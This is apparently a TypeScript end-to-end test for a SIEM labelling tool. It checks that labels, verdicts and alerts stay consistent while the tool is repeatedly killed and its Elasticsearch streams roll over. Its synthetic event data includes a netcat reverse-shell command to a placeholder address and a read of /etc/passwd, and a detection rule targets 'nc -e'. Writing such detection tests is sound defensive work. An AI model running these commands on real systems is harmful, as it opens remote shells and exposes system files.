import type { ChildProcess } from "node:child_process";
import { once } from "node:events";
import { writeFileSync } from "node:fs";
import { join } from "node:path";
import { setTimeout as sleep } from "node:timers/promises";
import { describe, expect, it } from "vitest";
import { fieldOf, listOf } from "../../connectors/elasticsearch/classify-error.ts";
import { createRandom, type Random } from "../../samples/random.ts";
import { freshFolder, killTree, runTagsmith, startTagsmith } from "../e2e/tagsmith-process.ts";
import type { Settings, SiemScene } from "./siem-scene.ts";

const rules = `title: Netcat
name: netcat
level: high
logsource: { product: linux, category: process_creation }
detection: { selection: { CommandLine|startswith: 'nc -e' }, condition: selection }
---
title: Netcats of a host
level: critical
correlation: { type: event_count, rules: [netcat], group-by: [host.name], timespan: 1m, condition: { gte: 5 }, generate: true }
`;

/** The streams that are written by appending; a write after a rollover goes into a fresh index. */
const streams = ["labels", "alerts", "deadletters"];

const commands = [
  "id",
  "uname -a",
  "cat /etc/passwd",
  "nc -e /bin/sh 203.0.113.10 4444",
  "apt-get update",
  "ls -la /tmp",
];

/** Events of a few sessions, many of them of the same time. */
function events(count: number, random: Random): Settings[] {
  const now = Date.now();
  return Array.from({ length: count }, (_, n) => {
    const host = `web-${random.below(4)}`;
    return {
      _id: `e${n}`,
      "@timestamp": new Date(now - 60_000 + (n >> 3)).toISOString(),
      event: { action: "process_started", dataset: "process", module: "system" },
      host: { name: host },
      user: { name: "www-data" },
      process: {
        args: random.pick(commands).split(" "),
        executable: "/bin/sh",
        parent: { pid: 100 + random.below(3) },
      },
    };
  });
}

/** Tagsmith polls while documents are written, its process is killed, and indices and servers change under it. */
export function conservationSuite(scene: SiemScene, kills: number, restarts: number): void {
  describe("labels of what is written while Tagsmith is killed again and again, and its streams roll over", () => {
    it(`are one for each document, and verdicts and alerts those of a calm run (${kills} kills)`, async () => {
      const random = createRandom(11);
      const stream = await createStream(scene);
      const folder = freshFolder("conserve");
      const killed = writeConfig(scene, folder, stream, { name: "killed", once: false });
      expect((await runTagsmith(["install", "--config", killed])).err).toBe("");
      const documents = events(kills * 200, random);

      let isWritten = false;
      const writing = writeAll(scene, stream, documents, random).finally(() => {
        isWritten = true;
      });
      let restarted = 0;
      let hits = 0;
      for (let round = 0; round < kills; round += 1) {
        const child = startTagsmith(["run", "--config", killed, "--quiet"]);
        const said = messagesOf(child);
        // What is repeated after the last kill is written over rollovers, and rollovers come between.
        const rolling = rollOver(
          scene,
          Array.from({ length: 4 }, () => random.below(1_200)),
        );
        // One kill in four falls into the start, the others shortly after something was written.
        if (round % 4 === 3) await sleep(random.below(2_500));
        else if (await writesMore(scene, child)) hits += 1;
        await sleep(random.below(300));
        await kill(child, said);
        await rolling;
        if (round % 2 === 0) await rollOver(scene, [0]);
        if (isWritten && restarted < restarts) {
          restarted += 1;
          await scene.server.restart();
        }
      }
      await writing;
      expect(hits).toBeGreaterThanOrEqual(kills / 2);

      const finished = await runTagsmith([
        "run",
        "--quiet",
        "--config",
        writeConfig(scene, folder, stream, { name: "killed", once: true }),
      ]);
      expect(finished).toMatchObject({ code: 0 });
      const calm = await runTagsmith([
        "run",
        "--quiet",
        "--config",
        writeConfig(scene, folder, stream, { name: "calm", once: true }),
      ]);
      expect(calm).toMatchObject({ code: 0 });

      const labelled = await sourcesOf(scene, namesOf("labels", "killed"));
      const ids = labelled.map((label) => String(fieldOf(fieldOf(fieldOf(label, "tagsmith"), "origin"), "document")));
      expect(ids.sort()).toEqual(documents.map(({ _id }) => String(_id)).sort());
      expect(await backingIndices(scene, namesOf("labels", "killed"))).toBeGreaterThan(kills);
      const [after, undisturbed] = [await verdictsOf(scene, "killed"), await verdictsOf(scene, "calm")];
      expect(undisturbed.size).toBeGreaterThan(3);
      expect(after).toEqual(undisturbed);
      const [alerts, calmAlerts] = [await alertsOf(scene, "killed"), await alertsOf(scene, "calm")];
      expect(calmAlerts.filter((alert) => alert.startsWith("Netcat ")).length).toBeGreaterThan(kills * 20);
      expect(calmAlerts.filter((alert) => alert.startsWith("Netcats ")).length).toBeGreaterThan(kills);
      expect(alerts).toEqual(calmAlerts);
    }, 1_200_000);
  });
}

/** A data stream whose documents say when they came in. */
async function createStream(scene: SiemScene): Promise<string> {
  const stream = scene.freshName("logs-conserve");
  const settings = { "index.number_of_replicas": 0, "index.refresh_interval": "500ms" };
  const mappings = { properties: { event: { properties: { ingested: { type: "date" } } } } };
  const body = { index_patterns: [stream], data_stream: {}, priority: 900, template: { settings, mappings } };
  await scene.ask({ method: "PUT", path: `/_index_template/${stream}`, body });
  return stream;
}

/** Writes in small requests, with a rollover now and then; repeats a request until the server has taken it. */
async function writeAll(
  scene: SiemScene,
  stream: string,
  documents: readonly Settings[],
  random: Random,
): Promise<void> {
  for (let at = 0; at < documents.length; at += 20) {
    const ingested = new Date().toISOString();
    const lines = documents
      .slice(at, at + 20)
      .flatMap(({ _id, event, ...document }) => [
        JSON.stringify({ create: { _index: stream, _id } }),
        JSON.stringify({ ...document, event: { ...Object(event), ingested } }),
      ]);
    const ndjson = `${lines.join("\n")}\n`;
    await insist(() => scene.ask({ method: "POST", path: "/_bulk", ndjson }));
    if (random.below(30) === 0) await insist(() => scene.ask({ method: "POST", path: `/${stream}/_rollover` }));
    await sleep(random.below(800));
  }
}

/** Gives our streams new write indices, after these waits; a server that is away, or a stream that is not there yet, is passed over. */
async function rollOver(scene: SiemScene, waitsMs: readonly number[]): Promise<void> {
  for (const waitMs of waitsMs) {
    await sleep(waitMs);
    for (const kind of streams) {
      const path = `/${namesOf(kind, "killed")}/_rollover`;
      await scene.ask({ method: "POST", path, accept: [400, 404, 503] }).catch(() => undefined);
    }
  }
}

/** A repeated create after a rollover would make a second document: only what surely failed is repeated. */
async function insist(work: () => Promise<unknown>): Promise<void> {
  for (;;) {
    try {
      await work();
      return;
    } catch {
      await sleep(500);
    }
  }
}

function writeConfig(
  scene: SiemScene,
  folder: string,
  stream: string,
  { name, once: isOnce }: { readonly name: string; readonly once: boolean },
): string {
  const { product } = scene.client.server;
  const path = join(folder, `${name}-${isOnce}.json`);
  const config = {
    source: {
      type: product,
      urls: [scene.server.url],
      indices: [stream],
      from: "beginning",
      once: isOnce,
      poll_interval_secs: 0.3,
      safety_lag_secs: 1.5,
      batch_records: 40,
    },
    sink: { type: product, urls: [scene.server.url], namespace: name, refresh: "true" },
    state: { path: join(folder, `${name}.db`) },
    label: { workers: 1 },
    // Correlations wait for the end of the input: what came late in one run came in time in the other.
    detect: { rules: [join(folder, "rules.yml")], lateness_secs: 86_400 },
  };
  writeFileSync(join(folder, "rules.yml"), rules);
  writeFileSync(path, JSON.stringify(config));
  return path;
}

/** Waits until more labels are there than now; false when none came for long. */
async function writesMore(scene: SiemScene, child: ChildProcess): Promise<boolean> {
  const before = await countLabels(scene);
  for (let look = 0; look < 150 && child.exitCode === null; look += 1) {
    if ((await countLabels(scene)) > before) return true;
    await sleep(100);
  }
  return false;
}

/** What a process writes to standard error. */
function messagesOf(child: ChildProcess): readonly string[] {
  const said: string[] = [];
  child.stderr?.on("data", (chunk: Buffer) => said.push(chunk.toString("utf8")));
  return said;
}

async function countLabels(scene: SiemScene): Promise<number> {
  const answer = await scene.ask({
    method: "POST",
    path: `/${namesOf("labels", "killed")}/_count`,
    accept: [404, 503],
  });
  return Number(fieldOf(answer, "count") ?? 0);
}

async function kill(child: ChildProcess, said: readonly string[]): Promise<void> {
  if (child.exitCode !== null) throw new Error(`tagsmith ended by itself with ${child.exitCode}: ${said.join("")}`);
  const exited = once(child, "exit");
  killTree(child.pid ?? 0);
  await exited;
}

function namesOf(kind: string, namespace: string): string {
  return `tagsmith-${kind}-${namespace}`;
}

async function sourcesOf(scene: SiemScene, index: string): Promise<unknown[]> {
  await scene.ask({ method: "POST", path: `/${index}/_refresh` });
  const body = { size: 10_000, query: { match_all: {} } };
  const found = await scene.ask({ method: "POST", path: `/${index}/_search`, body });
  return listOf(fieldOf(fieldOf(found, "hits"), "hits")).map((hit) => fieldOf(hit, "_source"));
}

/** How many indices a data stream has. */
async function backingIndices(scene: SiemScene, stream: string): Promise<number> {
  const answer = await scene.ask({ method: "GET", path: `/_resolve/index/${stream}` });
  return listOf(fieldOf(listOf(fieldOf(answer, "data_streams"))[0], "backing_indices")).length;
}

/** Rule and id of each alert, in order. */
async function alertsOf(scene: SiemScene, namespace: string): Promise<string[]> {
  const sources = await sourcesOf(scene, namesOf("alerts", namespace));
  return sources
    .map((source) => `${fieldOf(fieldOf(source, "rule"), "name")} ${fieldOf(fieldOf(source, "event"), "id")}`)
    .toSorted();
}

/** What was judged, by verdict. */
async function verdictsOf(scene: SiemScene, namespace: string): Promise<ReadonlyMap<string, unknown>> {
  const sources = await sourcesOf(scene, namesOf("verdicts", namespace));
  const verdicts = sources.map((source) => fieldOf(fieldOf(source, "tagsmith"), "verdict"));
  return new Map(verdicts.map((verdict) => [String(fieldOf(verdict, "id")), verdict]));
}
